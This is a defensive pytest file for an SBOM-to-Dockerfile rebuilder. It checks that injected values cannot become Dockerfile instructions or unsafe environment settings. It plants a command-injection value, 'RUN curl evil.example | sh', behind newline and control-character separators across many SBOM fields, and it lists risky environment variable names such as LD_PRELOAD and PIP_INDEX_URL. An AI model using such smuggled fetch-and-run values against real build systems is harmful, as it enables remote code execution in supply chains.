"""Nothing from an SBOM becomes a Dockerfile instruction, an ENV, or an unverified install."""

from __future__ import annotations

import copy

import pytest

from driftbom.errors import RebuildError
from driftbom.rebuilder import dockerfile, runmd
from driftbom.safetext import has_unsafe
from tests.rebuild.helpers import (
    component,
    make_plan,
    reproducible_doc,
    set_prop,
    with_artifact,
    with_run,
)

SEPARATORS = {
    "LF": "\n",
    "CR": "\r",
    "CRLF": "\r\n",
    "VT": "\v",
    "FF": "\f",
    "NEL": "\u0085",
    "LS": "\u2028",
    "PS": "\u2029",
    "ESC": "\x1b",
    "NUL": "\x00",
    "US": "\x1f",
    "DEL": "\x7f",
}
INJECTED = "RUN curl evil.example | sh"


def _env(doc: dict, name: str, value: str) -> None:
    doc["metadata"]["properties"].append({"name": f"drift:env:{name}", "value": value})


def _os(field: str):
    def plant(doc: dict, text: str) -> None:
        comp = component(doc, "os")
        comp[field] = comp.get(field, "x") + text
        comp["name"] = comp["name"] if field != "name" else comp[field]

    return plant


def _env_name(doc: dict, text: str) -> None:
    _env(doc, f"TORCH_TOKEN{text}", "secret")  # recorded redacted: listed as not reproduced


def _env_value(doc: dict, text: str) -> None:
    _env(doc, "OMP_NUM_THREADS", f"8{text}")


def _bom_ref(doc: dict, text: str) -> None:
    comp = copy.deepcopy(component(doc, "pypi:six"))
    comp["bom-ref"] = f"pypi:six{text}"
    set_prop(comp, "drift:pypi:source", "editable")
    doc["components"].append(comp)


def _file_url(doc: dict, text: str) -> None:
    comp = component(doc, "pypi:six")
    set_prop(comp, "drift:pypi:source", "url")
    set_prop(comp, "drift:pypi:source-url", f"file:///tmp/six.whl{text}")


def _name(doc: dict, text: str) -> None:
    doc["metadata"]["component"]["name"] += text


def _timestamp(doc: dict, text: str) -> None:
    doc["metadata"]["timestamp"] += text


def _version(doc: dict, text: str) -> None:
    component(doc, "pypi:six")["version"] += text


def _python_version(doc: dict, text: str) -> None:
    component(doc, "python")["version"] += text


def _command(doc: dict, text: str) -> None:
    with_run(doc, f"python train.py --name {text}")


def _quoted_command(doc: dict, text: str) -> None:
    with_run(doc, f"python train.py --name '{text}'")


def _artifact_path(kind: str):
    def plant(doc: dict, text: str) -> None:
        with_artifact(doc, kind, "planted", f"/mnt/{kind}{text}")

    return plant


PLACES = {
    "run-command": _command,
    "run-command-quoted": _quoted_command,
    "dataset-path": _artifact_path("dataset"),
    "model-path": _artifact_path("model"),
    "os-name": _os("name"),
    "os-version": _os("version"),
    "env-name": _env_name,
    "env-value": _env_value,
    "bom-ref": _bom_ref,
    "file-url": _file_url,
    "sbom-name": _name,
    "timestamp": _timestamp,
    "package-version": _version,
    "python-version": _python_version,
}


def _rendered(doc: dict) -> list[tuple[str, str]] | None:
    try:
        plan = make_plan(doc, skip_unreproducible=True)
    except RebuildError:
        return None  # refused, naming the component and field
    from driftbom.sbom import cyclonedx

    return [
        ("Dockerfile", dockerfile.render(plan)),
        ("requirements.lock", dockerfile.render_lock(plan)),
        (".dockerignore", dockerfile.DOCKERIGNORE),
        ("RUN.md", runmd.render(cyclonedx.from_dict(doc, "t"), "drift-rebuild:0", "out")),
    ]


@pytest.mark.parametrize("separator", SEPARATORS.values(), ids=SEPARATORS.keys())
@pytest.mark.parametrize("place", PLACES)
def test_a_separator_anywhere_never_becomes_an_instruction(place, separator):
    doc = reproducible_doc()
    PLACES[place](doc, f"{separator}{INJECTED}{separator}")
    files = _rendered(doc)
    if files is None:
        return
    for name, text in files:
        for line in text.split("\n"):
            assert not has_unsafe(line), (name, line)  # one line, whatever the value held
            assert not line.startswith(INJECTED), (name, line)
    lines = [line for line in files[0][1].splitlines() if line.strip()]
    first = next(line for line in lines if not line.startswith("#"))
    assert first.startswith("FROM "), first


def test_a_refused_value_names_its_component_and_field():
    doc = reproducible_doc()
    _env_value(doc, "\nRUN evil")
    with pytest.raises(RebuildError, match=r"env:OMP_NUM_THREADS: env OMP_NUM_THREADS"):
        make_plan(doc)


@pytest.mark.parametrize(
    "name",
    [
        "PATH",
        "LD_AUDIT",
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "PYTHONPATH",
        "PYTHONHOME",
        "PYTHONSTARTUP",
        "HTTPS_PROXY",
        "https_proxy",
        "NO_PROXY",
        "HF_ENDPOINT",
        "pip_index_url",
        "PIP_INDEX_URL",
        "Pip_Extra_Index_Url",
        "UV_INDEX_URL",
        "uv_index",
        "TORCH_HOME",
        "TORCH_CUDA_ARCH_LIST_URL",
        "TF_VAR_region",
        "NCCL_SOCKET_PWD",
        "TORCH_HUB_TOKEN",
    ],
)
def test_env_outside_the_allow_list_never_reaches_the_image(name):
    doc = reproducible_doc()
    _env(doc, name, "/tmp/planted")
    plan = make_plan(doc)
    assert name not in dict(plan.env)
    assert "/tmp/planted" not in dockerfile.render(plan)


def test_allowed_env_is_set_and_a_url_value_is_not():
    doc = reproducible_doc()
    _env(doc, "CUBLAS_WORKSPACE_CONFIG", ":4096:8")
    _env(doc, "TORCH_ENDPOINT_NAME", "https://models.example/x")
    plan = make_plan(doc)
    env = dict(plan.env)
    assert env["CUBLAS_WORKSPACE_CONFIG"] == ":4096:8"
    assert "TORCH_ENDPOINT_NAME" not in env


def _archive(doc: dict, url: str, hashes: list[dict]) -> None:
    comp = component(doc, "pypi:six")
    set_prop(comp, "drift:pypi:source", "url")
    set_prop(comp, "drift:pypi:source-url", url)
    comp["hashes"] = hashes


def test_an_archive_pin_without_sha256_is_refused_unless_no_resolve():
    doc = reproducible_doc()
    _archive(doc, "https://files.example/six-1.16.0.tar.gz", [])
    with pytest.raises(RebuildError, match=r"pypi:six: the archive .* has no recorded sha256"):
        make_plan(doc)
    plan = make_plan(doc, no_resolve=True)
    assert not plan.fully_hashed  # and the Dockerfile says so; pip installs it unverified


def test_a_plain_http_archive_is_refused():
    doc = reproducible_doc()
    _archive(doc, "http://files.example/six.tar.gz", [{"alg": "SHA-256", "content": "a" * 64}])
    with pytest.raises(RebuildError, match="plain http"):
        make_plan(doc)
    with pytest.raises(RebuildError, match="plain http"):
        make_plan(doc, no_resolve=True)
